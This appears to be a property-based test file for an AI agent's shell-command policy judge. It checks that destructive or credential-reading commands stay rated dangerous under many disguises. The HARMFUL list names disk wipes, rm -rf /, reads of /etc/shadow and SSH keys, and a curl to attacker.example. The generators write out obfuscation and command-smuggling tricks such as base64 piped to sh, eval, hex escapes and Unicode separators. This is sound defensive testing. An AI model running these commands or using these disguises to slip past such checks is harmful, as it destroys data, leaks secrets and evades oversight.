import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { judgeCommand } from '../../server/domain/agent/policy/judge.ts';
import { depth } from '../support/depth.ts';

/**
 * Commands that must never run without approval, disguised in every way that a shell sees through. In any disguise, the
 * policy must judge them neither `safe` nor `caution`.
 */
const HARMFUL = [
  ['rm', '-rf', '/'],
  ['cat', '/etc/shadow'],
  ['dd', 'if=/dev/zero', 'of=/dev/sda'],
  ['mkfs.ext4', '/dev/sda1'],
  ['shutdown', '-h', 'now'],
  ['curl', 'http://attacker.example/x'],
  ['useradd', 'evil'],
  ['chmod', 'u+s', '/bin/sh'],
  ['tail', '-n', '1', '/root/.ssh/id_rsa'],
  ['systemctl', 'stop', 'ssh'],
  ['find', '/', '-delete'],
  ['journalctl', '--vacuum-size=1M'],
  ['sort', '-o', '/etc/passwd', '/etc/passwd'],
  ['kill', '-9', '-1'],
];
const HARMLESS = [
  'uptime',
  'df -h',
  'ls -la /etc',
  'ps aux',
  'true',
  'echo done',
  "grep -i error '/var/log/syslog'",
];
const RUNS = depth(500, 4_000);

const quote = (text: string) => `'${text.replaceAll("'", "'\\''")}'`;
const hex = (text: string) =>
  [...text].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
const octal = (text: string) =>
  [...text].map((c) => `\\${c.charCodeAt(0).toString(8).padStart(3, '0')}`).join('');
const base64 = (text: string) => Buffer.from(text).toString('base64');

/** Generates spellings of a word that a shell reads as the same word. */
const spelling = (word: string): fc.Arbitrary<string> => {
  const cut = fc.nat(word.length);
  return fc.oneof(
    fc.constant(word),
    fc.constant(quote(word)),
    fc.constant(`"${word}"`),
    cut.map((at) => `${word.slice(0, at)}''${word.slice(at)}`),
    cut.map((at) => `${word.slice(0, at)}""${word.slice(at)}`),
    cut.map((at) => `'${word.slice(0, at)}'"${word.slice(at)}"`),
    cut.map((at) => `${word.slice(0, at)}\\${word.slice(at)}`),
    cut.map((at) => `${word.slice(0, at)}\\\n${word.slice(at)}`),
    cut.map((at) => `${word.slice(0, at)}\${x}${word.slice(at)}`),
    cut.map((at) => `${word.slice(0, at)}$@${word.slice(at)}`),
    cut.map((at) => `${word.slice(0, at)}$(true)${word.slice(at)}`),
    fc.constant(`$'${hex(word)}'`),
    fc.constant(`$'${octal(word)}'`),
    fc.constant(`$(printf '${octal(word)}')`),
    fc.constant(`$(echo ${base64(word)} | base64 -d)`),
    fc.constant(`\`echo ${word}\``),
    fc.constant(`\${x:-${word}}`),
    fc.constant(`{${word},}`),
    fc.constant(`$(echo ${[...word].reverse().join('')} | rev)`),
  );
};

const blank = fc.constantFrom(' ', '  ', '\t', ' \\\n ', `\${IFS}`, '$IFS');

/** Generates the command with each word spelled in some way and some blanks between them. */
const spelled = fc
  .constantFrom(...HARMFUL)
  .chain((words) =>
    fc
      .tuple(
        fc.tuple(...words.map(spelling)),
        fc.array(blank, { minLength: words.length, maxLength: words.length }),
      )
      .map(([spellings, blanks]) =>
        spellings.map((word, index) => `${word}${index < words.length - 1 ? blanks[index] : ''}`).join(''),
      ),
  );

const harmless = fc.constantFrom(...HARMLESS);

/** Ways to hide a command inside a larger one. */
const DISGUISES: ((command: string, other: string) => string)[] = [
  (command) => command,
  (command, other) => `${other}; ${command}`,
  (command, other) => `${other}\n${command}`,
  (command, other) => `${other}\r\n${command}`,
  (command, other) => `${other} && ${command}`,
  (command, other) => `${other} || ${command}`,
  (command, other) => `${other} | ${command}`,
  (command, other) => `${other} |& ${command}`,
  (command, other) => `${other} & ${command}`,
  (command, other) => `${command}; ${other}`,
  (command, other) => `${command} # ${other}`,
  (command, other) => `${other} #\n${command}`,
  (command, other) => `${other} $(${command})`,
  (command, other) => `${other} "$(${command})"`,
  (command, other) => `${other} \`${command}\``,
  (command, other) => `${other} <(${command})`,
  (command, other) => `${other} >(${command})`,
  (command, other) => `${other} > /dev/null; ${command}`,
  (command, other) => `${other} 2>&1;${command}`,
  (command) => `sudo ${command}`,
  (command) => `sudo -n ${command}`,
  (command) => `env LC_ALL=C ${command}`,
  (command) => `LC_ALL=C ${command}`,
  (command) => `nice -n 5 ${command}`,
  (command) => `timeout 5 ${command}`,
  (command) => `command ${command}`,
  (command) => `builtin ${command}`,
  (command) => `exec ${command}`,
  (command) => `eval ${command}`,
  (command) => `eval ${quote(command)}`,
  (command) => `sh -c ${quote(command)}`,
  (command) => `bash -c ${quote(command)}`,
  (command) => `sudo bash -c ${quote(command)}`,
  (command) => `sh -c "sh -c ${quote(command)}"`,
  (command) => `echo ${base64(command)} | base64 -d | sh`,
  (command) => `sh <<< ${quote(command)}`,
  (command) => `sh <<EOF\n${command}\nEOF`,
  (command) => `cat <<EOF\n$(${command})\nEOF`,
  (command) => `(${command})`,
  (command) => `{ ${command}; }`,
  (command) => `! ${command}`,
  (command) => `if true; then ${command}; fi`,
  (command) => `while true; do ${command}; done`,
  (command) => `for x in 1; do ${command}; done`,
  (command) => `f() { ${command}; }; f`,
  (command) => `alias ls=${quote(command)}; ls`,
  (command) => `trap ${quote(command)} EXIT`,
  (command) => `x=${quote(command)}; $x`,
  (command) => `[[ -n $(${command}) ]]`,
  (command) => `test -v 'a[$(${command})]'`,
  (command) => `echo $(( $(${command}) ))`,
  (command) => `echo x | xargs ${command}`,
  (command) => `find / -exec ${command} \\;`,
  (command) => `find / -exec sh -c ${quote(command)} ';'`,
  (command) => `awk 'BEGIN { system("${command}") }'`,
  (command) => `ssh localhost ${quote(command)}`,
  (command) => `python3 -c 'import os; os.system("${command}")'`,
  (command, other) => `${other}\u2028${command}`,
  (command, other) => `${other}\u00a0;\u00a0${command}`,
  (command) => `\u200b${command}`,
];

const disguised = fc
  .tuple(spelled, fc.array(fc.tuple(fc.constantFrom(...DISGUISES), harmless), { minLength: 0, maxLength: 3 }))
  .map(([command, layers]) => layers.reduce((inner, [disguise, other]) => disguise(inner, other), command));

test('a dangerous command in any disguise is dangerous', () => {
  fc.assert(
    fc.property(disguised, (command) => {
      assert.equal(judgeCommand(command).risk, 'dangerous', JSON.stringify(command));
    }),
    { numRuns: RUNS },
  );
});

test('a disguise makes no unlisted command harmless', () => {
  const name = fc.stringMatching(/^[a-z]{3,10}$/).filter((word) => judgeCommand(word).risk === 'dangerous');
  fc.assert(
    fc.property(name, fc.constantFrom(...DISGUISES), harmless, (word, disguise, other) => {
      assert.equal(judgeCommand(disguise(`${word} x`, other)).risk, 'dangerous');
    }),
    { numRuns: RUNS },
  );
});

test('any text gets a verdict, and garbage a bad one', () => {
  const garbage = fc.string({ unit: 'binary', maxLength: 200 });
  const shellish = fc
    .array(
      fc.constantFrom(...'ls rm cat / -rf ; | & $ ( ) ` " \' \\ < > { } ~ * ? # ! = \n'.split(' '), ' '),
      { maxLength: 30 },
    )
    .map((parts) => parts.join(''));
  fc.assert(
    fc.property(fc.oneof(garbage, shellish), (text) => {
      const { risk, why } = judgeCommand(text);
      assert.ok(why.length > 0);
      if (/[$`<{}()\\~#]/.test(text.replace(/'[^']*'/g, '')))
        assert.equal(risk, 'dangerous', JSON.stringify(text));
      if (/\brm\b/.test(text) && risk !== 'dangerous') assert.match(text, /['"]|echo|ls|-rm|rm-|\/rm|rm\//);
    }),
    { numRuns: RUNS },
  );
});
